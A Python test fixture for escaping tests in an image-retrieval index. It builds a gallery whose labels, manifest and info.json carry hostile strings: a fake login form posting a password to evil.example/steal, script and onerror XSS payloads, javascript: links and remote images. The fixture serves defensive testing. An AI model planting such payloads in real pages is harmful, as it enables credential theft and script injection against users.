"""Hostile text for the escaping tests: strings that would be live Markdown or HTML if the page rendered them as
such (a backtick that closes a code span, then a login form; a Markdown image from another site; a javascript: link;
raw tags; a table; $$ maths), and a gallery and index whose labels, info.json and column names are those strings."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

FORM = ("!`<form action=https://evil.example/steal><input type=password name=pw>"
        "<button>Sign in</button></form>")
HOSTILE = (
    FORM,
    "![x](http://evil.example/x.png)",
    "<img src=//evil.example/i.png onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "<script>alert(1)</script>",
    "x\n\n<div>block</div>\n\n| a | b |\n|---|---|\n| c | d |",
    "$$\\href{http://evil.example}{x}$$ https://evil.example/a www.evil.example me@evil.example",
    "``<b>two backticks</b>`` and `one`",
    "**bold** _it_ ~~gone~~ # hash &lt;entity&gt; &amp; <http://evil.example/auto>",
)


LONG_COLUMN = "c" * 64  # a manifest column name (an identifier, at most 64 characters): the where box names it


def write_hostile_gallery(root: Path, images: list[Path]) -> Path:
    """Two images per hostile label in a manifest with a long extra column, and a hostile info.json."""
    root.mkdir(parents=True)
    rows = []
    for i, label in enumerate([*HOSTILE, "z" * 110_000]):  # under csv's 128 KiB field limit
        for j in range(2):
            name = f"{i}_{j}.png"
            shutil.copyfile(images[(2 * i + j) % len(images)], root / name)
            rows.append({"path": name, "label": label, LONG_COLUMN: "v"})
    with (root / "manifest.csv").open("w", newline="") as handle:
        writer = csv.DictWriter(handle, ["path", "label", LONG_COLUMN])
        writer.writeheader()
        writer.writerows(rows)
    (root / "info.json").write_text(json.dumps({
        "dataset": f"d{FORM}", "description": f"find {HOSTILE[1]} {HOSTILE[3]}", "purpose": f"Find {HOSTILE[1]}"}))
    return root / "manifest.csv"


def build_hostile_index(root: Path, model: Path, images: list[Path]) -> Path:
    """An index of ``write_hostile_gallery``'s manifest."""
    from retrieval.index import IngestOptions, build_index

    manifest = write_hostile_gallery(root / "gallery", images)
    build_index(manifest, root / "index", model=model,
                options=IngestOptions(batch_size=16, workers=0, progress=False))
    return root / "index"
